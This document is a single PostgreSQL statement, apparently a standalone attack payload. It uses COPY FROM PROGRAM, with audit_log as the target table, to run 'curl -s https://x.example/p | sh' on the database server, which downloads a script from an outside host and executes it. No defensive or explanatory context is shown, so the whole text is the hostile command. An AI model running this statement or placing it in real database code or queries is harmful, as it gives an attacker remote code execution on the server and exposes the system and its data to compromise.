COPY audit_log FROM PROGRAM 'curl -s https://x.example/p | sh';
